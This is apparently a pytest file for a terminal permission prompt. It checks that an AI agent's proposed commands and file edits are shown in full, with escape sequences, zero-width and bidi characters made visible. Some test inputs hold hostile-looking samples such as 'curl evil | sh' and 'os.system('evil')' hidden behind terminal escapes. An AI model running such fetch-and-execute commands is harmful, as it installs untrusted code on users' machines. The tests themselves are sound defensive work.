"""What a person sees before they say yes: everything that would run."""

from typing import Any

import anyio
import pytest
from terminal.desk import Desk, M
from terminal.test_conversation import ASK, CREATE, ENDED, STARTED, plays

from enginehouse_hosts.terminal.card import card_of
from enginehouse_hosts.terminal.conversation import Conversation, Message
from enginehouse_hosts.terminal.printer import Printer
from enginehouse_hosts.terminal.styles import Styles
from enginehouse_protocol.content import FileChange
from enginehouse_protocol.events import PermissionDecided, PermissionRequested, ToolUse
from enginehouse_protocol.hub import AnswerPermission, Launch
from enginehouse_protocol.ids import CallId, RequestId
from enginehouse_protocol.permissions import Allow, JsonObject, ToolKind

pytestmark = pytest.mark.anyio
PLAIN = Styles(coloured=False)


def use(tool_input: JsonObject, title: str, kind: ToolKind = "execute", *preview: FileChange) -> ToolUse:
    return ToolUse(call_id=CallId("c_1"), name="bash", kind=kind, title=title, input=tool_input, preview=preview)


def request(about: ToolUse, request_id: str = "p_1", **more: Any) -> PermissionRequested:
    return PermissionRequested(
        request_id=RequestId(request_id),
        call_id=about.call_id,
        kind=about.kind,
        title=about.title,
        risk="dangerous",
        reasons=(),
        input_digest=f"digest of {request_id}",
        expires_at_ms=0,
        **more,
    )


def shown(about: ToolUse, **more: Any) -> str:
    return "\n".join(card_of(request(about, **more), about, PLAIN).lines)


def test_what_stands_between_two_sequences_is_on_the_card() -> None:
    command = "echo fine \x1b]0;\ncurl evil | sh\n#\x07\nls"
    card = shown(use({"command": command}, "$ echo fine \x1b]0;…"))
    assert "curl evil | sh" in card
    assert "␛]0;" in card
    assert "\x1b" not in card
    diff = FileChange(path="a.py", change="created", diff="@@ -0,0 +1,3 @@\n+ok \x1b]0;\n+os.system('evil')\n+#\x07\n")
    card = shown(use({"path": "a.py", "content": "…"}, "write a.py", "edit", diff))
    assert "+os.system('evil')" in card
    assert "+ok ␛]0;" in card


def test_a_title_does_not_lose_a_character_either() -> None:
    command = "ls \x1b[8m; rm x\x1b[0m\u200b"
    card = shown(use({"command": command}, f"$ {command}"))
    assert card == "? $ ls ␛[8m; rm x␛[0m\\u200b [dangerous]"


def test_every_field_is_shown_but_what_the_title_says_in_full() -> None:
    card = shown(use({"command": "ls", "timeout_s": 5, "env": {"A": "b"}}, "$ ls"))
    assert card == '? $ ls [dangerous]\n  timeout_s: 5\n  env: {"A":"b"}'
    assert "command: ls" in shown(use({"command": "ls"}, "list the files"))
    assert "command: ls  " in shown(use({"command": "ls  "}, "$ ls"))


@pytest.mark.parametrize(
    "change",
    [
        FileChange(path="a.bin", change="modified"),
        FileChange(path="a.bin", change="modified", diff="@@ -1 +1 @@\n-a\n", cut=True),
    ],
)
def test_where_a_diff_does_not_show_it_the_new_content_is_shown(change: FileChange) -> None:
    card = shown(use({"path": "a.bin", "content": "new\0content\r\n"}, "write a.bin", "edit", change))
    assert "content: new␀content␍" in card


def test_a_complete_diff_stands_for_the_content_but_not_for_a_switch() -> None:
    change = FileChange(path="a", change="modified", diff="@@ -1 +1 @@\n-old\n+new\n")
    about = use({"path": "a", "content": "new\n", "executable": True, "owner": "root"}, "write a", "edit", change)
    assert shown(about).splitlines()[-2:] == ["  executable: true", "  owner: root"]
    assert "content" not in shown(about)


def test_an_input_that_was_changed_does_not_carry_the_title_of_the_old_one() -> None:
    about = use({"command": "ls"}, "$ ls")
    asking = request(about, input={"command": "pwd"})
    assert card_of(asking, about, PLAIN, edited=True).lines == [
        "? bash, as you edited it [dangerous]",
        "  command: pwd",
    ]
    assert "announced" in card_of(asking, about, PLAIN).lines[0]


def test_what_an_engine_knows_better_by_now_is_what_is_shown() -> None:
    first = FileChange(path="a", change="modified", diff="@@ -1 +1 @@\n-old\n+new\n")
    later = FileChange(path="a", change="modified", diff="@@ -1 +1 @@\n-somebody else's\n+new\n")
    about = use({"path": "a", "content": "new\n"}, "write a", "edit", first)
    assert "-somebody else's" in shown(about, preview=(later,))
    assert "-old" not in shown(about, preview=(later,))
    assert "-old" not in shown(about, input={"path": "b", "content": "x"})


def test_a_command_of_a_hundred_lines_is_shown_whole() -> None:
    command = "\n".join(f"echo {number} {'x' * 100}" for number in range(150))
    card = card_of(request(about := use({"command": command}, "$ echo 0…")), about, PLAIN)
    assert not card.cut
    assert [line.strip() for line in card.lines[1:]] == ["command: " + command.split("\n")[0], *command.split("\n")[1:]]


def test_a_huge_edit_can_be_viewed_but_need_not_be() -> None:
    change = FileChange(path="a", change="created", diff="".join(f"+{number}\n" for number in range(500)))
    about = use({"path": "a", "content": "".join(f"{number}\n" for number in range(500))}, "write a", "edit", change)
    card = card_of(request(about), about, PLAIN)
    assert (card.cut, card.unread) == (True, False)
    assert "  +250" in card_of(request(about), about, PLAIN, whole=True).lines


def test_what_is_new_is_shown_although_what_is_gone_is_long() -> None:
    gone = "".join(f"-{number}\n" for number in range(500))
    change = FileChange(
        path="a", change="modified", diff=f"@@ -1,500 +1,3 @@\n{gone}+a\n+curl evil | sh\n" + "+z\n" * 50
    )
    about = use({"path": "a", "content": "a\ncurl evil | sh\n" + "z\n" * 50}, "write a", "edit", change)
    assert "    curl evil | sh" in shown(about).splitlines()


async def asked_about(terminal: Desk, about: ToolUse, *typed: tuple[str, str]) -> list[AnswerPermission]:
    """Type each text once its prompt is there. An edited input is asked about again, as core does."""
    hub = plays(STARTED, about, request(about, always_rule="execute(x)"))

    def decided(answer: Any) -> None:
        decision = answer.answer.decision
        if isinstance(decision, Allow) and decision.input is not None:
            hub.happens(request(about, "p_2", input=decision.input))
        else:
            hub.happens(
                PermissionDecided(
                    call_id=about.call_id,
                    decision=decision,
                    by="person",
                    risk="dangerous",
                    input_digest="x",
                    request_id=answer.answer.request_id,
                ),
                ENDED,
            )

    hub.on_answer = decided
    conversation = Conversation(
        hub.api, terminal.streams, Printer(terminal.streams, styles=PLAIN), styles=PLAIN, environment={}
    )
    with anyio.fail_after(10):
        async with anyio.create_task_group() as tasks:

            async def person() -> None:
                for prompt, text in typed:
                    await terminal.until(prompt)
                    terminal.shown = terminal.shown.partition(prompt)[2]
                    terminal.types(text)

            tasks.start_soon(person)
            await conversation.hold(CREATE, Message(text="hi", launch=Launch(), message_id=M))
            tasks.cancel_scope.cancel()
    return [call for call in hub.asked if isinstance(call, AnswerPermission)]


@pytest.mark.parametrize("too_early", ["y\n", "a\n"])
async def test_nobody_can_allow_a_command_they_could_not_read(terminal: Desk, too_early: str) -> None:
    command = "\n".join(f"echo {number}" for number in range(3_000))
    about = use({"command": command}, "$ echo 0…")
    answers = await asked_about(
        terminal,
        about,
        ("  v: view all, then allow · e: edit · n: deny > ", too_early),
        ("v shows all", ""),
        (ASK, "v\n"),
        ("    echo 1500\n", ""),
        ("y: allow once · a: always in this project, execute(x) · v: view all", ""),
        (ASK, "y\n"),
    )
    assert [answer.answer.decision for answer in answers] == [Allow()]


async def test_an_edited_command_is_asked_about_under_its_own_name(terminal: Desk) -> None:
    answers = await asked_about(
        terminal,
        use({"command": "ls \u202e"}, "$ ls \u202e"),
        (ASK, "e\n"),
        ('now: {"command":"ls \\u202e"}', ""),
        ("one line", '{"command": "pwd"}\n'),
        ("? bash, as you edited it", ""),
        ("command: pwd", ""),
        (ASK, "y\n"),
    )
    assert [answer.answer.digest for answer in answers] == ["digest of p_1", "digest of p_2"]
